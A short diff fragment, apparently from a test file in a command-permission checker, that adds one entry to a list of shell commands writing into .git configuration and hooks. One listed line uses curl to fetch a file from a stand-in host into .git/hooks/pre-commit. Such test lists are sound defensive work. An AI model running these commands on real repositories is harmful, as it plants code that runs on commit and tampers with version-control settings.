@@ -244,6 +244,7 @@ make -sC.git
 strace -fo.git/config ls
 ssh -vE.git/hooks/x h
 curl -sSfLo.git/hooks/pre-commit http://h
+somecmd "write('.git/config')"
 `
 
 const mentionAllows = `
